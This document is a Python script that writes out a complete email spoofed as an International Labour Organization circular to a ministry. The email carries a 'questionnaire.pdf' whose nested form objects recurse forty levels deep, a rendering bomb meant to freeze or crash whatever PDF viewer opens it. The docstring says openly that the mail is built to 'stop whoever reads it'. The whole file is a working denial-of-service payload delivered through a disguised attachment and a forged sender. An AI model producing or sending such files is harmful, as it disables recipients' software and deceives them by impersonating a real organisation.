#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Writes a mail to standard output that stops whoever reads it: a circular whose attached PDF draws a
form which draws two forms, each of which draws two, forty levels deep."""
import base64

LEVELS = 40
objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
           b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R"
           b" /Resources << /XObject << /F 5 0 R >> >> >>",
           b"<< /Length 5 >>\nstream\n/F Do\nendstream"]
for level in range(LEVELS):
    number = 5 + level
    body = b"/A Do /B Do" if level < LEVELS - 1 else b"BT (x) Tj ET"
    inner = b"<< /A %d 0 R /B %d 0 R >>" % (number + 1, number + 1) if level < LEVELS - 1 else b"<< >>"
    objects.append(b"<< /Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /XObject "
                   + inner + b" >> /Length %d >>\nstream\n%s\nendstream" % (len(body), body))
pdf, offsets = b"%PDF-1.4\n", []
for number, text in enumerate(objects, 1):
    offsets.append(len(pdf))
    pdf += b"%d 0 obj\n%s\nendobj\n" % (number, text)
table = len(pdf)
pdf += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
pdf += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
pdf += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, table)

print("""From: International Labour Organization <circulars@ilo.org>
To: inbox@ministry.example
Subject: A letter that stops its reader
Date: Tue, 10 Mar 2026 10:00:00 +0100
Message-ID: <killer@ilo.org>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="part"

--part
Content-Type: text/plain; charset=utf-8

TO ALL MEMBER STATES OF THE ILO

Dear Sir or Madam,

Governments are requested to reply to the enclosed questionnaire no later than 15 June 2026.

--part
Content-Type: application/pdf; name="questionnaire.pdf"
Content-Disposition: attachment; filename="questionnaire.pdf"
Content-Transfer-Encoding: base64
""")
print(base64.encodebytes(pdf).decode(), end="")
print("--part--")
